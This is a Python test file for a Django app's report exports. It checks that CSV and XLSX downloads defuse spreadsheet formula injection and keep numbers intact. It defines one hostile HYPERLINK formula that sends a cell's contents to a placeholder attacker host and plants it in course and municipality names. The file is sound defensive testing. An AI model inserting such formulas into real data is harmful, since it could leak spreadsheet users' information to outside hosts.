"""Every CSV and XLSX of the reports is safe to open in a spreadsheet: a municipality or a
cohort named `=HYPERLINK(…)` appears as text, never as a formula; figures stay numbers."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from kurse.models import Durchgang
from teilnehmende.models import Eintrittsdaten

from .test_views import _bytes

FORMEL = '=HYPERLINK("https://angriff.invalid/?d="&A1;"Hier klicken")'


def _boese_namen(bestand):
    Durchgang.objects.filter(pk=bestand["d1"].pk).update(titel=FORMEL)
    Eintrittsdaten.objects.filter(anmeldung__durchgang=bestand["d1"]).update(kommune=FORMEL)


def _csv(antwort, trenner=";"):
    return list(csv.reader(io.StringIO(_bytes(antwort).decode("utf-8-sig")), delimiter=trenner))


def _alle_zellen(zeilen):
    return [wert for zeile in zeilen for wert in zeile]


def test_zahlen_als_csv_ohne_formel(client, foerderer, bestand):
    _boese_namen(bestand)
    client.force_login(foerderer)
    zellen = _alle_zellen(_csv(client.get(reverse("berichte:export_csv"))))
    assert any(z.startswith("'" + FORMEL) for z in zellen)
    assert not any(z.startswith(("=", "+", "-", "@", "\t", "\r")) for z in zellen)


def test_zahlen_als_xlsx_ohne_formel(client, foerderer, bestand):
    _boese_namen(bestand)
    client.force_login(foerderer)
    mappe = load_workbook(io.BytesIO(_bytes(client.get(reverse("berichte:export_xlsx")))))
    zellen = [zelle for blatt in mappe for zeile in blatt.iter_rows() for zelle in zeile]
    # openpyxl stores a string beginning with "=" as a formula (data_type "f").
    assert not [z.coordinate for z in zellen if z.data_type == "f"]
    assert any(isinstance(z.value, str) and z.value.startswith("'" + FORMEL) for z in zellen)
    # Figures stay numbers.
    geschlecht = {z[0]: z[1:] for z in mappe["Geschlecht"].iter_rows(values_only=True)}
    assert geschlecht["Insgesamt"][0] == 14


def test_esf_einzeldaten_ohne_formel(client, administratorin, bestand):
    _boese_namen(bestand)
    client.force_login(administratorin)
    zeilen = _csv(client.get(reverse("berichte:einzeldaten_csv")))
    kopf, daten = zeilen[0], zeilen[1:]
    kommunen = [z[kopf.index("Kommune")] for z in daten]
    durchgaenge = [z[kopf.index("Durchgang")] for z in daten]
    assert kommunen.count("'" + FORMEL) == 10
    assert durchgaenge.count("'" + FORMEL) == 10
    assert not any(z.startswith(("=", "+", "-", "@", "\t", "\r")) for z in _alle_zellen(daten))
    # Numbers stay as written (the year of birth is no text to neutralise).
    assert any(z[kopf.index("Geburtsjahr")].isdigit() for z in daten)
